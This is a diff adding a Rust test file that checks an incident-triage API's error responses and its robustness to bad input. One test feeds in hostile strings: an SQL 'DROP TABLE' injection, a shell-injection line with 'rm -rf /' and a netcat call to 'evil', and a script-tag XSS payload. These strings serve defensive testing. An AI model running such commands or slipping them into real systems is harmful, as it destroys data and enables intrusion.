@@ -1,0 +1,99 @@
+//! Every bad input gets its status and the `{ "error": ... }` shape; none crashes the server.
+
+use serde_json::json;
+
+use crate::helpers::{error_code, spawn_app};
+
+#[tokio::test]
+async fn malformed_json_is_400() {
+    let app = spawn_app().await;
+    let (code, _) = error_code(app.post_raw("/v1/triage", "{\"title\": ").await, 400).await;
+    assert_eq!(code, "malformed_json");
+}
+
+#[tokio::test]
+async fn missing_or_blank_text_is_422_naming_the_field() {
+    let app = spawn_app().await;
+    for body in [
+        json!({}),
+        json!({ "title": "", "description": "   " }),
+        json!({ "caller": "x" }),
+    ] {
+        let (code, body) = error_code(app.post_json("/v1/triage", &body).await, 422).await;
+        assert_eq!(code, "validation_failed");
+        assert_eq!(body["error"]["field"], "title");
+    }
+}
+
+#[tokio::test]
+async fn wrong_types_and_unknown_fields_are_422() {
+    let app = spawn_app().await;
+    for body in [
+        json!({ "title": 5 }),
+        json!({ "title": "x", "priority": "1" }),
+        json!([1, 2]),
+    ] {
+        let (code, _) = error_code(app.post_json("/v1/triage", &body).await, 422).await;
+        assert_eq!(code, "invalid_body");
+    }
+}
+
+#[tokio::test]
+async fn body_over_limit_is_413() {
+    let app = spawn_app().await;
+    let big = "x".repeat(1024 * 1024 + 10);
+    let body = serde_json::to_vec(&json!({ "title": "t", "description": big })).unwrap();
+    let (code, _) = error_code(app.post_raw("/v1/triage", body).await, 413).await;
+    assert_eq!(code, "body_too_large");
+}
+
+#[tokio::test]
+async fn unknown_route_is_404_and_wrong_method_is_405() {
+    let app = spawn_app().await;
+    let (code, _) = error_code(app.get("/v1/nope").await, 404).await;
+    assert_eq!(code, "not_found");
+    let (code, _) = error_code(app.get("/v1/triage").await, 405).await;
+    assert_eq!(code, "method_not_allowed");
+}
+
+#[tokio::test]
+async fn wrong_content_type_is_415() {
+    let app = spawn_app().await;
+    let response = app
+        .client
+        .post(format!("{}/v1/triage", app.address))
+        .header("content-type", "text/plain")
+        .body("{\"title\":\"x\"}")
+        .send()
+        .await
+        .unwrap();
+    error_code(response, 415).await;
+}
+
+#[tokio::test]
+async fn hostile_text_is_triaged_not_crashed() {
+    let app = spawn_app().await;
+    let hostile = [
+        "'; DROP TABLE incidents; --",
+        "$(rm -rf /) `reboot` | nc evil 1",
+        "<script>alert(1)</script>",
+        "\u{0000}\u{0007}\u{001b}[31m",
+        "🔥🔥🔥 Drucker geht nicht, bitte helfen",
+        "請幫我重置密碼",
+    ];
+    for text in hostile {
+        let response = app
+            .post_json("/v1/triage", &json!({ "title": text, "description": text }))
+            .await;
+        assert_eq!(response.status(), 200, "{text:?}");
+    }
+    let long = "word ".repeat(20_000);
+    let response = app
+        .post_json(
+            "/v1/triage",
+            &json!({ "title": "long", "description": long }),
+        )
+        .await;
+    assert_eq!(response.status(), 200);
+    assert_eq!(app.get("/healthz").await.status(), 200);
+}
